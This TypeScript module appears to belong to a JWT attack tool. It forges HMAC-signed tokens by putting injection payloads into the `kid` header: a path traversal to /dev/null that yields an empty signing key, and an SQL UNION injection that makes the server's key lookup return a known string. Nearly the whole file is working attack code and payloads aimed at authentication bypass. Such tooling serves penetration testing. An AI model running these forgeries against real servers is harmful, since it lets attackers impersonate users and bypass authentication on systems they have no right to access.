import { assembleHmacToken, chooseHmacAlg, succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';
import { encodeUtf8 } from '../../encoding/utf8';

/** Each kid payload with the key it makes a vulnerable server use, so the token verifies there. */
const PAYLOADS = {
  // A file of known content: /dev/null reads as zero bytes, so the key is empty.
  'path-traversal': { kid: '../../../../../../dev/null', key: '' },
  // The injected SELECT makes the lookup return the literal 'key'.
  sql: { kid: "' UNION SELECT 'key' --", key: 'key' },
} as const;

/** The kid injections on offer. */
export type KidInjection = keyof typeof PAYLOADS;

/** The injection a variant id names; path traversal, the catalogue's default, for any other id. */
function kidInjectionOf(variantId: string): KidInjection {
  return variantId === 'sql' ? 'sql' : 'path-traversal';
}

/**
 * Returns the token with a `kid` that makes a server which builds a file path or an SQL query
 * from it use a key the attacker knows, HMAC-signed with that key (`alg` the header's HS*, HS256
 * otherwise). `customKid` replaces the payload's kid ('' keeps it); the key stays the variant's.
 */
export function buildKidInjectionAttack(parts: AttackParts, variantId: string, customKid: string): AttackResult {
  const variant = kidInjectionOf(variantId);
  const { kid, key } = PAYLOADS[variant];
  const header = { ...parts.header, alg: chooseHmacAlg(parts.header), kid: customKid === '' ? kid : customKid };
  const token = assembleHmacToken(header, parts.payloadSegment, encodeUtf8(key));
  return succeed('kid-injection', variant, token, parts, { verifierKey: key });
}

/** Returns the kid a variant uses when the input is left empty, for the input's placeholder. */
export function defaultKidOf(variantId: string): string {
  return PAYLOADS[kidInjectionOf(variantId)].kid;
}
